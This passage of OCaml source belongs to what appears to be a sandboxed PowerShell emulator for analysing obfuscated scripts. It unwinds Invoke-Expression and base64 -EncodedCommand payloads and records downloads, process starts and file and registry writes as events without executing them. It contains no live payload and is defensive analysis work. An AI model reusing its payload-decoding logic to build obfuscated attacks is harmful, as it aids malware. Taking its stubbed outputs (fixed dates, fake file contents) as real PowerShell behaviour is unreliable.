      | A.Format -> Value.Str (Format_op.format (Value.to_string va) (Value.to_list vb))
      | A.Range -> Ops.range ctx.env.Env.limits.Env.max_collection va vb
      | A.Eq | A.Ne | A.Gt | A.Ge | A.Lt | A.Le | A.Like | A.Notlike | A.Match
      | A.Notmatch ->
          Ops.comparison op sensitivity va vb
      | A.Replace -> Ops.replace_op sensitivity va vb
      | A.Split -> Ops.split_op sensitivity va vb
      | A.Join -> Ops.join_op va vb
      | A.Contains ->
          Ops.contains_op ~case_sensitive:(sensitivity = Some true) ~negate:false va vb
      | A.Notcontains ->
          Ops.contains_op ~case_sensitive:(sensitivity = Some true) ~negate:true va vb
      | A.In_op ->
          Ops.in_op ~case_sensitive:(sensitivity = Some true) ~negate:false va vb
      | A.Notin ->
          Ops.in_op ~case_sensitive:(sensitivity = Some true) ~negate:true va vb
      | A.Is_op -> (
          match vb with
          | Value.Obj { Value.otype; _ } -> Value.Bool (Ops.type_matches otype va)
          | v -> Value.Bool (Ops.type_matches (Value.to_string v) va))
      | A.Isnot -> (
          match eval_binary ctx A.Is_op sensitivity a b with
          | Value.Bool x -> Value.Bool (not x)
          | _ -> Value.Bool false)
      | A.As_op -> (
          match vb with
          | Value.Obj { Value.otype; _ } -> (
              try Casts.cast otype va with Casts.Cast_error _ -> Value.Null)
          | v -> ( try Casts.cast (Value.to_string v) va with Casts.Cast_error _ -> Value.Null))
      | A.Band | A.Bor | A.Bxor | A.Shl | A.Shr -> Ops.bitwise op va vb
      | A.And_op | A.Or_op | A.Xor_op -> Ops.logical op va vb)

and eval_unary ctx op operand =
  match op with
  | A.Not -> Value.Bool (not (Value.to_bool (eval_expr ctx operand)))
  | A.Negate -> (
      match eval_expr ctx operand with
      | Value.Int n -> Value.Int (-n)
      | Value.Float f -> Value.Float (-.f)
      | v -> Value.Int (-(Value.to_int v)))
  | A.Unary_plus -> (
      match eval_expr ctx operand with
      | Value.Int n -> Value.Int n
      | Value.Float f -> Value.Float f
      | v -> Value.Int (Value.to_int v))
  | A.Bnot -> Value.Int (lnot (Value.to_int (eval_expr ctx operand)))
  | A.Ujoin -> Ops.unary_join (eval_expr ctx operand)
  | A.Usplit -> Ops.unary_split (eval_expr ctx operand)
  | A.Incr | A.Decr -> (
      let delta = if op = A.Incr then 1 else -1 in
      match operand.A.node with
      | A.Variable_expr v ->
          let old = try Value.to_int (read_variable ctx v.A.var_name) with _ -> 0 in
          Env.set_var ctx.env v.A.var_name (Value.Int (old + delta));
          note_write ctx ~also_reads:[ v.A.var_name ] ~extent:operand.A.extent
            v.A.var_name;
          Value.Int (old + delta)
      | _ -> eval_fail "++/-- requires a variable")

and eval_postfix ctx op operand =
  let delta = if op = A.Incr then 1 else -1 in
  match operand.A.node with
  | A.Variable_expr v ->
      let old = try Value.to_int (read_variable ctx v.A.var_name) with _ -> 0 in
      Env.set_var ctx.env v.A.var_name (Value.Int (old + delta));
      note_write ctx ~also_reads:[ v.A.var_name ] ~extent:operand.A.extent
        v.A.var_name;
      Value.Int old
  | _ -> eval_fail "++/-- requires a variable"

and member_name ctx member =
  match member with
  | A.Member_name n -> n
  | A.Member_dynamic e -> Value.to_string (eval_expr ctx e)

and eval_member_access ctx whole obj member static =
  let name = member_name ctx member in
  if static then begin
    match obj.A.node with
    | A.Type_literal type_name -> (
        match Statics.get_static type_name name with
        | Some v -> v
        | None -> eval_fail "unknown static member [%s]::%s" type_name name)
    | _ -> eval_fail "static member access requires a type literal"
  end
  else begin
    let v = eval_expr ctx obj in
    match Members.get_property v name with
    | Some result -> result
    | None -> (
        match Strcase.lower name with
        | "length" | "count" -> Value.Int 1  (* scalars have Length 1 in PS *)
        | _ -> (
            match ctx.env.Env.mode with
            | Env.Recovery ->
                eval_fail "unknown property '%s' on %s (%s)" name
                  (Value.type_name v)
                  (String.trim (node_text ctx whole))
            | Env.Sandbox -> Value.Null))
  end

and eval_invoke_member ctx whole obj member args static =
  let name = member_name ctx member in
  let arg_values = List.map (eval_expr ctx) args in
  if static then begin
    match obj.A.node with
    | A.Type_literal type_name -> (
        match Statics.invoke_static ctx.env type_name name arg_values with
        | Some v -> v
        | None -> eval_fail "unknown static method [%s]::%s" type_name name)
    | _ -> eval_fail "static method call requires a type literal"
  end
  else begin
    let v = eval_expr ctx obj in
    match (v, Strcase.lower name) with
    | Value.Script_block sb, ("invoke" | "invokereturnasis") ->
        Value.of_list (invoke_script_block ctx sb arg_values ~input:[])
    | _ -> (
        match Members.invoke_method ctx.env v name arg_values with
        | Some result -> result
        | None -> (
            match ctx.env.Env.mode with
            | Env.Recovery ->
                eval_fail "unknown method '%s' on %s (%s)" name (Value.type_name v)
                  (String.trim (node_text ctx whole))
            | Env.Sandbox -> Value.Null))
  end

(* ---------- script blocks & functions ---------- *)

and invoke_script_block ctx (sb : Value.sb) args ~input =
  Env.with_scope ctx.env (fun () ->
      let params = sb.Value.sb_ast.A.sb_params in
      bind_parameters ctx params args;
      Env.set_var ctx.env "input" (Value.Arr (Array.of_list input));
      let inner_ctx = { ctx with src = sb.Value.sb_text } in
      (* script-block ASTs parsed from their own text keep extents relative
         to that text *)
      let stmts = sb.Value.sb_ast.A.sb_statements in
      try eval_statements inner_ctx stmts with Return_exc out -> out)

and bind_parameters ctx params args =
  let rec bind params args =
    match (params, args) with
    | [], rest -> Env.set_var ctx.env "args" (Value.Arr (Array.of_list rest))
    | p :: ps, a :: rest ->
        Env.set_var ctx.env p a;
        bind ps rest
    | p :: ps, [] ->
        Env.set_var ctx.env p Value.Null;
        bind ps []
  in
  bind params args

and invoke_function ctx (fn : Env.fn) args ~input =
  Env.with_scope ctx.env (fun () ->
      bind_parameters ctx fn.Env.fn_params args;
      Env.set_var ctx.env "input" (Value.Arr (Array.of_list input));
      let body_stmts =
        match fn.Env.fn_body.A.node with
        | A.Script_block sb -> sb.A.sb_statements
        | A.Statement_block stmts -> stmts
        | _ -> [ fn.Env.fn_body ]
      in
      (* begin/process/end: begin runs once, process once per pipeline item
         with $_ bound, end once *)
      let named name =
        List.filter_map
          (fun s ->
            match s.A.node with
            | A.Named_block (n, body) when Strcase.equal n name -> Some body
            | _ -> None)
          body_stmts
      in
      let process_blocks = named "process" in
      if process_blocks <> [] then begin
        try
          let out = ref [] in
          List.iter (fun b -> out := !out @ eval_statement ctx b) (named "begin");
          List.iter
            (fun item ->
              Env.set_var ctx.env "_" item;
              List.iter (fun b -> out := !out @ eval_statement ctx b) process_blocks)
            input;
          List.iter (fun b -> out := !out @ eval_statement ctx b) (named "end");
          !out
        with Return_exc out -> out
      end
      else try eval_statements ctx body_stmts with Return_exc out -> out)

(* ---------- statements ---------- *)

and eval_statements ctx stmts = List.concat_map (eval_statement ctx) stmts

and bind_param_defaults ctx names =
  List.iter
    (fun n ->
      match Env.get_var ctx.env n with
      | Some _ -> ()
      | None -> Env.set_var ctx.env n Value.Null)
    names

and eval_statement ctx (t : A.t) : Value.t list =
  Env.tick ctx.env;
  match t.A.node with
  | A.Script_block sb ->
      bind_param_defaults ctx sb.A.sb_params;
      eval_statements ctx sb.A.sb_statements
  | A.Named_block (_, body) -> eval_statement ctx body
  | A.Statement_block stmts -> eval_statements ctx stmts
  | A.Pipeline [ { A.node = A.Command_expression
                     { A.node = A.Postfix_expr ((A.Incr | A.Decr), _)
                              | A.Unary_expr ((A.Incr | A.Decr), _); _ }; _ } ] ->
      ignore (eval_pipeline ctx (match t.A.node with A.Pipeline e -> e | _ -> []));
      []
  | A.Pipeline elems -> eval_pipeline ctx elems
  | A.Assignment (op, lhs, rhs) ->
      eval_assignment ctx op lhs rhs;
      []
  | A.If_stmt (clauses, else_branch) -> (
      let rec try_clauses = function
        | [] -> (
            match else_branch with
            | Some b -> eval_statement ctx b
            | None -> [])
        | (cond, body) :: rest ->
            if Value.to_bool (Value.of_list (eval_statement ctx cond)) then
              eval_statement ctx body
            else try_clauses rest
      in
      try_clauses clauses)
  | A.While_stmt (cond, body) ->
      let out = ref [] in
      (try
         while Value.to_bool (Value.of_list (eval_statement ctx cond)) do
           Env.tick ctx.env;
           try out := !out @ eval_statement ctx body
           with Continue_exc -> ()
         done
       with Break_exc -> ());
      !out
  | A.Do_while_stmt (body, cond) ->
      let out = ref [] in
      (try
         let continue = ref true in
         while !continue do
           Env.tick ctx.env;
           (try out := !out @ eval_statement ctx body with Continue_exc -> ());
           continue := Value.to_bool (Value.of_list (eval_statement ctx cond))
         done
       with Break_exc -> ());
      !out
  | A.Do_until_stmt (body, cond) ->
      let out = ref [] in
      (try
         let continue = ref true in
         while !continue do
           Env.tick ctx.env;
           (try out := !out @ eval_statement ctx body with Continue_exc -> ());
           continue := not (Value.to_bool (Value.of_list (eval_statement ctx cond)))
         done
       with Break_exc -> ());
      !out
  | A.For_stmt (init, cond, step, body) ->
      (match init with Some s -> ignore (eval_statement ctx s) | None -> ());
      let out = ref [] in
      (try
         let check () =
           match cond with
           | Some c -> Value.to_bool (Value.of_list (eval_statement ctx c))
           | None -> true
         in
         while check () do
           Env.tick ctx.env;
           (try out := !out @ eval_statement ctx body with Continue_exc -> ());
           match step with Some s -> ignore (eval_statement ctx s) | None -> ()
         done
       with Break_exc -> ());
      !out
  | A.Foreach_stmt (var, coll, body) ->
      let items = enumerate (Value.of_list (eval_statement ctx coll)) in
      let var_name =
        match var.A.node with
        | A.Variable_expr v -> v.A.var_name
        | _ -> eval_fail "foreach requires a variable"
      in
      let out = ref [] in
      (try
         List.iter
           (fun item ->
             Env.tick ctx.env;
             Env.set_var ctx.env var_name item;
             note_write ctx ~rhs:coll ~extent:var.A.extent var_name;
             try out := !out @ eval_statement ctx body with Continue_exc -> ())
           items
       with Break_exc -> ());
      !out
  | A.Switch_stmt (value, cases, default) ->
      let subjects = enumerate (Value.of_list (eval_statement ctx value)) in
      let out = ref [] in
      (try
         List.iter
           (fun subject ->
             Env.set_var ctx.env "_" subject;
             let matched = ref false in
             List.iter
               (fun (pat, body) ->
                 let hit =
                   match pat.A.node with
                   | A.Script_block_expr sb ->
                       Value.to_bool
                         (Value.of_list
                            (invoke_script_block ctx
                               { Value.sb_ast = sb; sb_text = strip_braces (node_text ctx pat) }
                               [] ~input:[ subject ]))
                   | _ ->
                       let pv = eval_expr ctx pat in
                       Value.equal_loose pv subject
                 in
                 if hit then begin
                   matched := true;
                   try out := !out @ eval_statement ctx body with Continue_exc -> ()
                 end)
               cases;
             if not !matched then
               match default with
               | Some body -> (
                   try out := !out @ eval_statement ctx body with Continue_exc -> ())
               | None -> ())
           subjects
       with Break_exc -> ());
      !out
  | A.Function_def (name, params, body) ->
      Env.define_function ctx.env name { Env.fn_params = params; fn_body = body };
      []
  | A.Param_block names ->
      bind_param_defaults ctx names;
      []
  | A.Return_stmt value ->
      let out = match value with Some v -> eval_statement ctx v | None -> [] in
      raise (Return_exc out)
  | A.Break_stmt -> raise Break_exc
  | A.Continue_stmt -> raise Continue_exc
  | A.Throw_stmt value ->
      let v =
        match value with
        | Some e -> Value.of_list (eval_statement ctx e)
        | None -> Value.Str "ScriptHalted"
      in
      raise (Throw_exc v)
  | A.Exit_stmt _ -> raise Exit_exc
  | A.Try_stmt (body, catches, finally) ->
      let run_finally () =
        match finally with
        | Some f -> ignore (eval_statement ctx f)
        | None -> ()
      in
      let run_catch () =
        Env.set_var ctx.env "_" Value.Null;
        match catches with
        | (_, handler) :: _ -> eval_statement ctx handler
        | [] -> []
      in
      let result =
        try eval_statement ctx body with
        | Throw_exc _ when catches <> [] -> run_catch ()
        | Env.Eval_error _ when catches <> [] -> run_catch ()
        | Ops.Op_error _ when catches <> [] -> run_catch ()
        | Value.Conversion_error _ when catches <> [] -> run_catch ()
      in
      run_finally ();
      result
  | A.Trap_stmt _ -> []
  | A.Command _ | A.Command_expression _ -> eval_pipeline ctx [ t ]
  | A.Postfix_expr ((A.Incr | A.Decr), _) | A.Unary_expr ((A.Incr | A.Decr), _) ->
      (* ++/-- in statement position discards its value *)
      ignore (eval_expr ctx t);
      []
  | _ ->
      (* expression in statement position *)
      enumerate (eval_expr ctx t)

and eval_assignment ctx op lhs rhs =
  let rhs_value = Value.of_list (eval_statement ctx rhs) in
  let combined current =
    match op with
    | A.Assign -> rhs_value
    | A.Plus_assign -> Ops.add current rhs_value
    | A.Minus_assign -> Ops.subtract current rhs_value
    | A.Times_assign -> Ops.multiply current rhs_value
    | A.Div_assign -> Ops.divide current rhs_value
    | A.Mod_assign -> Ops.modulo current rhs_value
  in
  match lhs.A.node with
  | A.Variable_expr v ->
      let current =
        if op = A.Assign then Value.Null
        else match Env.get_var ctx.env v.A.var_name with Some x -> x | None -> Value.Null
      in
      Env.set_var ctx.env v.A.var_name (combined current);
      note_write ctx ~rhs
        ~also_reads:(if op = A.Assign then [] else [ v.A.var_name ])
        ~extent:(Pscommon.Extent.union lhs.A.extent rhs.A.extent)
        v.A.var_name
  | A.Convert_expr (type_name, { A.node = A.Variable_expr v; _ }) ->
      Env.set_var ctx.env v.A.var_name (Casts.cast type_name rhs_value);
      note_write ctx ~rhs
        ~extent:(Pscommon.Extent.union lhs.A.extent rhs.A.extent)
        v.A.var_name
  | A.Index_expr (obj, idx) -> (
      let container = eval_expr ctx obj in
      let index = eval_expr ctx idx in
      match container with
      | Value.Arr a ->
          let i = Value.to_int index in
          let i = if i < 0 then Array.length a + i else i in
          if i >= 0 && i < Array.length a then begin
            a.(i) <- combined (if op = A.Assign then Value.Null else a.(i));
            match obj.A.node with
            | A.Variable_expr v ->
                note_write ctx ~rhs ~also_reads:[ v.A.var_name ]
                  ~extent:(Pscommon.Extent.union lhs.A.extent rhs.A.extent)
                  v.A.var_name
            | _ -> ()
          end
          else eval_fail "index %d out of range in assignment" i
      | Value.Hash _ -> (
          (* immutable hash representation: rebuild and store when the
             container is a plain variable *)
          match obj.A.node with
          | A.Variable_expr v ->
              let pairs = match container with Value.Hash p -> p | _ -> [] in
              let filtered = List.filter (fun (k, _) -> not (Value.equal_loose k index)) pairs in
              Env.set_var ctx.env v.A.var_name (Value.Hash (filtered @ [ (index, rhs_value) ]));
              note_write ctx ~rhs ~also_reads:[ v.A.var_name ]
                ~extent:(Pscommon.Extent.union lhs.A.extent rhs.A.extent)
                v.A.var_name
          | _ -> eval_fail "cannot assign into this hashtable expression")
      | _ -> eval_fail "cannot index-assign into %s" (Value.type_name container))
  | A.Array_literal vars ->
      (* multiple assignment: $a, $b = 1, 2 *)
      let values = Value.to_list rhs_value in
      List.iteri
        (fun i lhs_item ->
          match lhs_item.A.node with
          | A.Variable_expr v ->
              let value =
                if i < List.length values then List.nth values i else Value.Null
              in
              Env.set_var ctx.env v.A.var_name value;
              note_write ctx ~rhs
                ~extent:(Pscommon.Extent.union lhs_item.A.extent rhs.A.extent)
                v.A.var_name
          | _ -> eval_fail "unsupported multiple-assignment target")
        vars
  | A.Member_access (_, _, _) -> ()  (* property assignment: ignored *)
  | _ -> eval_fail "unsupported assignment target %s" (A.kind_name lhs)

(* ---------- pipelines & commands ---------- *)

and eval_pipeline ctx elems =
  let rec run input = function
    | [] -> input
    | elem :: rest ->
        let output =
          match elem.A.node with
          | A.Command cmd -> run_command ctx cmd ~input
          | A.Command_expression e -> enumerate (eval_expr ctx e)
          | _ -> enumerate (eval_expr ctx elem)
        in
        run output rest
  in
  run [] elems

and run_command ctx (cmd : A.command) ~input =
  (* evaluate elements *)
  let name_expr, rest =
    match cmd.A.cmd_elements with
    | A.Elem_name n :: rest -> (n, rest)
    | _ -> eval_fail "command without a name"
  in
  let name_value =
    match name_expr.A.node with
    | A.String_const (s, A.Bare) -> Value.Str s
    | _ -> eval_expr ctx name_expr
  in
  match name_value with
  | Value.Script_block sb ->
      let args =
        List.filter_map
          (function A.Elem_argument a -> Some (eval_expr ctx a) | _ -> None)
          rest
      in
      invoke_script_block ctx sb args ~input
  | name_value ->
      let name = Value.to_string name_value in
      let literal =
        match name_expr.A.node with
        | A.String_const (_, A.Bare) -> true
        | _ -> false
      in
      dispatch_command ctx ~name ~elements:rest ~input ~literal
        ~invocation:cmd.A.cmd_invocation

and dispatch_command ctx ~name ~elements ~input ~literal ~invocation =
  ignore invocation;
  let resolved =
    match Pslex.Aliases.resolve name with Some full -> full | None -> name
  in
  let lname = Strcase.lower resolved in
  (* user-defined functions take precedence over builtins *)
  match Env.find_function ctx.env name with
  | Some fn ->
      let args = eval_elements_positional ctx elements in
      invoke_function ctx fn args ~input
  | None -> run_builtin ctx ~lname ~original_name:name ~elements ~input ~literal

and eval_elements_positional ctx elements =
  List.concat_map
    (function
      | A.Elem_argument a -> [ eval_expr ctx a ]
      | A.Elem_parameter (_, _) | A.Elem_name _ | A.Elem_redirection _ -> [])
    elements

(* parameters as (lowercase name without dash/colon, value option) *)
and eval_elements_parameters ctx elements =
  let rec walk = function
    | [] -> []
    | A.Elem_parameter (p, attached) :: rest ->
        let pname =
          let p = Strcase.lower p in
          let p = if String.length p > 0 && p.[0] = '-' then String.sub p 1 (String.length p - 1) else p in
          if String.length p > 0 && p.[String.length p - 1] = ':' then
            String.sub p 0 (String.length p - 1)
          else p
        in
        (match attached with
        | Some v -> (pname, Some (eval_expr ctx v)) :: walk rest
        | None -> (
            (* a parameter may consume the following argument as its value;
               record it lazily — cmdlets decide *)
            match rest with
            | A.Elem_argument a :: rest' ->
                (pname, Some (eval_expr ctx a)) :: walk rest'
            | _ -> (pname, None) :: walk rest))
    | _ :: rest -> walk rest
  in
  walk elements

and find_param params names =
  List.find_map
    (fun (p, v) ->
      if
        List.exists
          (fun n -> Strcase.starts_with ~prefix:p n && String.length p > 0)
          names
      then Some (p, v)
      else None)
    params

and has_switch params names = find_param params names <> None

and param_value params names =
  match find_param params names with Some (_, v) -> v | None -> None

and script_block_of_value _ctx v =
  match v with
  | Value.Script_block sb -> sb
  | Value.Str s -> (
      match Casts.parse_scriptblock s with
      | Value.Script_block sb -> sb
      | _ -> eval_fail "cannot convert to script block")
  | v -> eval_fail "expected a script block, got %s" (Value.type_name v)

and run_iex ctx payload ~input =
  ignore input;
  let env = ctx.env in
  env.Env.invoke_depth <- env.Env.invoke_depth + 1;
  if Pscommon.Telemetry.active () then
    Pscommon.Telemetry.event "interp.iex"
      ~attrs:
        [ ("depth", Pscommon.Telemetry.I env.Env.invoke_depth);
          ("payload_bytes", Pscommon.Telemetry.I (String.length payload)) ];
  if env.Env.invoke_depth > env.Env.limits.Env.max_invoke_depth then
    raise (Env.Limit_exceeded "Invoke-Expression nesting too deep");
  Fun.protect
    ~finally:(fun () -> env.Env.invoke_depth <- env.Env.invoke_depth - 1)
    (fun () ->
      match Psparse.Parser.parse payload with
      | Error e ->
          eval_fail "Invoke-Expression: syntax error at %d: %s"
            e.Psparse.Parser.position e.Psparse.Parser.message
      | Ok ast -> (
          let inner_ctx = { ctx with src = payload } in
          try eval_statement inner_ctx ast with Return_exc out -> out))

and decode_encoded_command payload =
  match Encoding.Base64.decode payload with
  | Error msg -> eval_fail "bad -EncodedCommand payload: %s" msg
  | Ok bytes ->
      if Encoding.Utf16.looks_utf16 bytes then Encoding.Utf16.decode_lossy bytes
      else bytes

and run_powershell_exe ctx ~elements ~input =
  (* `powershell -enc <b64>` / -command: parameter prefixes are matched with
     StartsWith, like PowerShell's own auto-completion (paper §III-B4) *)
  let rec walk = function
    | [] -> []
    | A.Elem_parameter (p, attached) :: rest -> (
        let pname =
          let p = Strcase.lower p in
          let p = if p <> "" && p.[0] = '-' then String.sub p 1 (String.length p - 1) else p in
          if p <> "" && p.[String.length p - 1] = ':' then String.sub p 0 (String.length p - 1) else p
        in
        let is_enc =
          pname <> "" && Strcase.starts_with ~prefix:pname "encodedcommand"
          && pname.[0] = 'e'
        in
        let is_cmd = pname <> "" && Strcase.starts_with ~prefix:pname "command" in
        let value_and_rest =
          match attached with
          | Some v -> Some (eval_expr ctx v, rest)
          | None -> (
              match rest with
              | A.Elem_argument a :: rest' -> Some (eval_expr ctx a, rest')
              | _ -> None)
        in
        match (is_enc, is_cmd, value_and_rest) with
        | true, _, Some (v, rest') ->
            let decoded = decode_encoded_command (Value.to_string v) in
            run_iex ctx decoded ~input @ walk rest'
        | _, true, Some (v, rest') -> run_iex ctx (Value.to_string v) ~input @ walk rest'
        | _, _, _ -> walk rest)
    | A.Elem_argument a :: rest -> (
        (* a bare string argument to powershell.exe is a command *)
        let v = eval_expr ctx a in
        match v with
        | Value.Str s when String.length s > 0 -> run_iex ctx s ~input @ walk rest
        | _ -> walk rest)
    | _ :: rest -> walk rest
  in
  walk elements

and synthetic_file_content path =
  Printf.sprintf "# content of %s" path

and run_builtin ctx ~lname ~original_name ~elements ~input ~literal =
  let env = ctx.env in
  let positional () = eval_elements_positional ctx elements in
  let params () = eval_elements_parameters ctx elements in
  let iex_payload p =
    let s = Value.to_string p in
    match env.Env.iex_hook with
    | Some hook when hook ~literal s -> []
    | Some _ | None -> run_iex ctx s ~input:[]
  in
  match lname with
  | "invoke-expression" ->
      let payloads =
        match positional () with [] -> input | args -> args
      in
      List.concat_map iex_payload payloads
  | "invoke-command" -> (
      match param_value (params ()) [ "scriptblock" ] with
      | Some sb -> invoke_script_block ctx (script_block_of_value ctx sb) [] ~input
      | None -> (
          match positional () with
          | [ v ] -> invoke_script_block ctx (script_block_of_value ctx v) [] ~input
          | _ -> []))
  | "write-output" | "write-object" ->
      input @ List.concat_map enumerate (positional ())
  | "write-host" | "write-verbose" | "write-debug" | "write-warning"
  | "write-error" | "write-information" ->
      let text =
        String.concat " " (List.map Value.to_string (input @ positional ()))
      in
      Env.sink env (Value.Str text);
      []
  | "out-null" -> []
  | "out-string" ->
      [ Value.Str (String.concat "\r\n" (List.map Value.to_string (input @ positional ()))) ]
  | "out-host" | "out-default" ->
      List.iter (Env.sink env) input;
      []
  | "foreach-object" -> (
      let block =
        match param_value (params ()) [ "process" ] with
        | Some v -> Some v
        | None -> ( match positional () with b :: _ -> Some b | [] -> None)
      in
      match block with
      | None -> []
      | Some b -> (
          match b with
          | Value.Script_block sb ->
              List.concat_map
                (fun item ->
                  Env.tick env;
                  Env.set_var env "_" item;
                  invoke_script_block_no_scope ctx sb ~input:[ item ])
                input
          | member ->
              (* ForEach-Object membername *)
              let mname = Value.to_string member in
              List.map
                (fun item ->
                  match Members.get_property item mname with
                  | Some v -> v
                  | None -> (
                      match Members.invoke_method env item mname [] with
                      | Some v -> v
                      | None -> Value.Null))
                input))
  | "where-object" -> (
      match positional () with
      | [ Value.Script_block sb ] ->
          List.filter
            (fun item ->
              Env.tick env;
              Env.set_var env "_" item;
              Value.to_bool
                (Value.of_list (invoke_script_block_no_scope ctx sb ~input:[ item ])))
            input
      | _ -> input)
  | "select-object" -> (
      let ps = params () in
      let take_first n lst =
        let rec go n = function
          | [] -> []
          | x :: rest -> if n = 0 then [] else x :: go (n - 1) rest
        in
        go n lst
      in
      match param_value ps [ "first" ] with
      | Some n -> take_first (Value.to_int n) input
      | None -> (
          match param_value ps [ "last" ] with
          | Some n ->
              let n = Value.to_int n in
              let len = List.length input in
              List.filteri (fun i _ -> i >= len - n) input
          | None -> input))
  | "sort-object" ->
      List.sort (fun a b -> Value.compare_loose a b) input
  | "measure-object" -> [ Value.Int (List.length input) ]
  | "get-random" -> (
      (* deterministic: evaluation must be reproducible *)
      match param_value (params ()) [ "maximum" ] with
      | Some m -> [ Value.Int (Value.to_int m / 2) ]
      | None -> ( match input with [] -> [ Value.Int 42 ] | l -> [ List.nth l (List.length l / 2) ]))
  | "get-date" -> [ Value.Str "01/01/2021 00:00:00" ]
  | "new-object" -> (
      let ps = params () in
      let type_name, ctor_args =
        match param_value ps [ "typename" ] with
        | Some t -> (Value.to_string t, [])
        | None -> (
            match positional () with
            | t :: args -> (Value.to_string t, args)
            | [] -> eval_fail "New-Object requires a type name")
      in
      let ctor_args =
        match param_value ps [ "argumentlist" ] with
        | Some v -> Value.to_list v
        | None -> (
            (* `New-Object Type(a, b)` parses as two positionals, the second
               being an array — PowerShell binds it to -ArgumentList *)
            match ctor_args with
            | [ Value.Arr a ] -> Array.to_list a
            | args -> args)
      in
      [ construct_object ctx type_name ctor_args ])
  | "convertto-securestring" -> (
      let ps = params () in
      let source =
        match param_value ps [ "string" ] with
        | Some s -> Some s
        | None -> ( match positional () with s :: _ -> Some s | [] -> (
            match input with s :: _ -> Some s | [] -> None))
      in
      match source with
      | None -> eval_fail "ConvertTo-SecureString requires input"
      | Some s ->
          let text = Value.to_string s in
          if has_switch ps [ "asplaintext" ] then [ Value.Secure_string text ]
          else if has_switch ps [ "key"; "securekey" ] then
            (* blob produced by ConvertFrom-SecureString -Key *)
            match String.index_opt text '|' with
            | Some bar when String.length text > bar + 1 -> (
                let b64 = String.sub text (bar + 1) (String.length text - bar - 1) in
                match Encoding.Base64.decode b64 with
                | Ok bytes -> [ Value.Secure_string (Encoding.Utf16.decode_lossy bytes) ]
                | Error msg -> eval_fail "bad SecureString blob: %s" msg)
            | _ -> eval_fail "unrecognised SecureString blob"
          else [ Value.Secure_string text ])
  | "convertfrom-securestring" -> (
      let source = match input with s :: _ -> Some s | [] -> (match positional () with s :: _ -> Some s | [] -> None) in
      match source with
      | Some (Value.Secure_string s) ->
          [ Value.Str ("76492d1116743f0423413b16050a5345" ^ "|" ^ Encoding.Base64.encode (Encoding.Utf16.encode s)) ]
      | _ -> eval_fail "ConvertFrom-SecureString requires a SecureString")
  | "get-variable" -> (
      let ps = params () in
      let name =
        match param_value ps [ "name" ] with
        | Some n -> Value.to_string n
        | None -> (
            match positional () with
            | n :: _ -> Value.to_string n
            | [] -> eval_fail "Get-Variable requires a name")
      in
      match Env.get_var env name with
      | Some v -> [ v ]
      | None -> eval_fail "variable %s not found" name)
  | "set-variable" | "new-variable" -> (
      let ps = params () in
      let name = match param_value ps [ "name" ] with
        | Some n -> Some (Value.to_string n)
        | None -> ( match positional () with n :: _ -> Some (Value.to_string n) | [] -> None)
      in
      let value = match param_value ps [ "value" ] with
        | Some v -> Some v
        | None -> ( match positional () with _ :: v :: _ -> Some v | _ -> None)
      in
      match (name, value) with
      | Some n, Some v ->
          Env.set_var env n v;
          []
      | Some n, None ->
          Env.set_var env n Value.Null;
          []
      | None, _ -> eval_fail "Set-Variable requires a name")
  | "get-alias" -> (
      match positional () with
      | n :: _ -> (
          match Pslex.Aliases.resolve (Value.to_string n) with
          | Some full -> [ Value.Str full ]
          | None -> eval_fail "alias not found")
      | [] -> [])
  | "get-command" -> (
      match positional () with
      | n :: _ -> [ Value.Str (Value.to_string n) ]
      | [] -> [])
  | "get-host" ->
      [ Value.Obj { Value.otype = "System.Management.Automation.Internal.Host.InternalHost"; okind = Value.Generic } ]
  | "add-type" -> []
  | "start-sleep" ->
      let seconds =
        let ps = params () in
        match param_value ps [ "seconds" ] with
        | Some s -> Value.to_float s
        | None -> (
            match param_value ps [ "milliseconds" ] with
            | Some ms -> Value.to_float ms /. 1000.0
            | None -> ( match positional () with s :: _ -> Value.to_float s | [] -> 1.0))
      in
      Env.record env (Env.Sleep seconds);
      []
  | "start-process" ->
      let target = String.concat " " (List.map Value.to_string (positional ())) in
      Env.record env (Env.Process_start target);
      []
  | "stop-process" | "stop-service" | "restart-computer" | "stop-computer" ->
      Env.record env (Env.Process_start lname);
      []
  | "invoke-webrequest" | "invoke-restmethod" -> (
      let ps = params () in
      let uri =
        match param_value ps [ "uri"; "usebasicparsing" ] with
        | Some u when Value.to_string u <> "" -> Value.to_string u
        | _ -> ( match positional () with u :: _ -> Value.to_string u | [] -> "")
      in
      Env.record env (Env.Http_get uri);
      let outfile = param_value ps [ "outfile" ] in
      match outfile with
      | Some f ->
          Env.record env (Env.File_write (Value.to_string f));
          []
      | None -> [ Value.Str (Printf.sprintf "# downloaded from %s" uri) ])
  | "get-content" -> (
      match positional () with
      | p :: _ ->
          let path = Value.to_string p in
          Env.record env (Env.File_read path);
          [ Value.Str (synthetic_file_content path) ]
      | [] -> [])
  | "set-content" | "add-content" | "out-file" -> (
      let ps = params () in
      let path =
        match param_value ps [ "path"; "filepath"; "literalpath" ] with
        | Some p -> Value.to_string p
        | None -> ( match positional () with p :: _ -> Value.to_string p | [] -> "unknown")
      in
      Env.record env (Env.File_write path);
      [])
  | "new-item" | "remove-item" | "copy-item" | "move-item" | "rename-item" -> (
      match positional () with
      | p :: _ ->
          Env.record env (Env.File_write (Value.to_string p));
          []
      | [] -> [])
  | "new-itemproperty" | "set-itemproperty" -> (
      let ps = params () in
      let path =
        match param_value ps [ "path" ] with
        | Some p -> Value.to_string p
        | None -> ( match positional () with p :: _ -> Value.to_string p | [] -> "")
      in
      Env.record env (Env.Registry_write path);
      [])
  | "get-itemproperty" | "get-item" -> []
  | "test-path" -> [ Value.Bool false ]
  | "join-path" -> (
      match positional () with
      | a :: b :: _ -> [ Value.Str (Value.to_string a ^ "\\" ^ Value.to_string b) ]
      | _ -> [])
  | "split-path" -> (
      match positional () with
      | p :: _ -> (
          let s = Value.to_string p in
          match String.rindex_opt s '\\' with
          | Some i -> [ Value.Str (String.sub s 0 i) ]
          | None -> [ Value.Str "" ])
      | [] -> [])
  | "get-process" | "get-service" | "get-wmiobject" | "get-ciminstance" -> []
  | "get-location" -> [ Value.Str "C:\\Users\\user" ]
  | "set-location" | "push-location" | "pop-location" -> []
  | "clear-host" | "clear-variable" | "remove-variable" -> []
  | "select-string" -> (
      match positional () with
      | pat :: _ ->
          let pattern = Value.to_string pat in
          let r = Ops.compile_regex pattern in
          List.filter (fun v -> Regexen.Regex.is_match r (Value.to_string v)) input
      | [] -> input)
  | "powershell" | "powershell.exe" | "pwsh" | "pwsh.exe" ->
      (match env.Env.mode with
      | Env.Sandbox -> Env.record env (Env.Process_start "powershell")
      | Env.Recovery -> ());
      run_powershell_exe ctx ~elements ~input
